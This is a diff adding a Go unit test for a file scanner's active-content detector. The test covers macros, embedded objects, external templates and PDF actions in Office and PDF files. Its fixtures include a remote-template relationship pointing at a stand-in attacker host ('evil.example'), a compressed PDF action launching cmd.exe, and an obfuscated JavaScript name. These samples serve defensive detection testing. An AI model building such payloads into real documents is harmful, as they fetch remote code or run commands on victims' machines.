@@ -0,0 +1,99 @@
+package activecontent
+
+import (
+	"archive/zip"
+	"bytes"
+	"compress/zlib"
+	"encoding/binary"
+	"icapeg/service/services-utilities/ole2"
+	"reflect"
+	"testing"
+	"unicode/utf16"
+)
+
+func ooxml(t *testing.T, files map[string]string) []byte {
+	var buf bytes.Buffer
+	w := zip.NewWriter(&buf)
+	for name, content := range files {
+		f, err := w.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		f.Write([]byte(content))
+	}
+	w.Close()
+	return buf.Bytes()
+}
+
+// ole2 builds a compound file which has a FAT sector and a directory sector with the entries
+func compoundFile(names ...string) []byte {
+	data := make([]byte, 3*512)
+	copy(data, ole2.Magic)
+	binary.LittleEndian.PutUint16(data[0x1E:], 9)
+	binary.LittleEndian.PutUint32(data[0x2C:], 1)
+	binary.LittleEndian.PutUint32(data[0x30:], 1)
+	binary.LittleEndian.PutUint32(data[0x44:], 0xFFFFFFFE)
+	for i := 0; i < 109; i++ {
+		binary.LittleEndian.PutUint32(data[0x4C+4*i:], 0xFFFFFFFF)
+	}
+	binary.LittleEndian.PutUint32(data[0x4C:], 0)
+	fat := data[512:1024]
+	binary.LittleEndian.PutUint32(fat[0:], 0xFFFFFFFD)
+	binary.LittleEndian.PutUint32(fat[4:], 0xFFFFFFFE)
+	dir := data[1024:]
+	for i, name := range append([]string{"Root Entry"}, names...) {
+		entry := dir[128*i:]
+		units := utf16.Encode([]rune(name))
+		for j, u := range units {
+			binary.LittleEndian.PutUint16(entry[2*j:], u)
+		}
+		binary.LittleEndian.PutUint16(entry[64:], uint16(2*len(units)+2))
+		entry[66] = 1
+	}
+	return data
+}
+
+func TestDetect(t *testing.T) {
+	contentTypes := `<?xml version="1.0"?><Types/>`
+	var stream bytes.Buffer
+	zw := zlib.NewWriter(&stream)
+	zw.Write([]byte("<</S/Launch/F(cmd.exe)>>"))
+	zw.Close()
+
+	for name, test := range map[string]struct {
+		data     []byte
+		expected []string
+	}{
+		"docm": {ooxml(t, map[string]string{"[Content_Types].xml": contentTypes, "word/vbaProject.bin": "x",
+			"word/embeddings/oleObject1.bin": "x"}), []string{FeatureMacros, FeatureEmbeddedObjects}},
+		"docx with a remote template": {ooxml(t, map[string]string{"[Content_Types].xml": contentTypes,
+			"word/_rels/settings.xml.rels": `<Relationships><Relationship Id="rId1" ` +
+				`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ` +
+				`Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`}),
+			[]string{FeatureExternalRelationships}},
+		"clean docx": {ooxml(t, map[string]string{"[Content_Types].xml": contentTypes,
+			"word/_rels/document.xml.rels": `<Relationships><Relationship Id="rId1" ` +
+				`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" ` +
+				`Target="https://example.com" TargetMode="External"/></Relationships>`}), nil},
+		"zip which isn't OOXML": {ooxml(t, map[string]string{"vbaProject.bin": "x"}), nil},
+		"xls with macros":       {compoundFile("Workbook", "_VBA_PROJECT_CUR", "VBA"), []string{FeatureMacros}},
+		"doc with an object":    {compoundFile("WordDocument", "ObjectPool"), []string{FeatureEmbeddedObjects}},
+		"clean doc":             {compoundFile("WordDocument", "\x01CompObj"), nil},
+		"pdf": {append([]byte("%PDF-1.7\n1 0 obj <</OpenAction 2 0 R/Names<</J#61vaScript 3 0 R>>>>\n"+
+			"4 0 obj <</Filter/FlateDecode>>stream\n"), append(stream.Bytes(), []byte("\nendstream\n")...)...),
+			[]string{FeaturePDFJavaScript, FeaturePDFOpenAction, FeaturePDFLaunch}},
+		"clean pdf": {[]byte("%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>>\n"), nil},
+	} {
+		features, err := Detect(test.data)
+		if err != nil {
+			t.Errorf("%s: unexpected error %v", name, err)
+		}
+		if !reflect.DeepEqual(features, test.expected) {
+			t.Errorf("%s: expected %v, got %v", name, test.expected, features)
+		}
+	}
+
+	if _, err := Detect(append([]byte(nil), ole2.Magic...)); err == nil {
+		t.Error("expected an error for a truncated compound file")
+	}
+}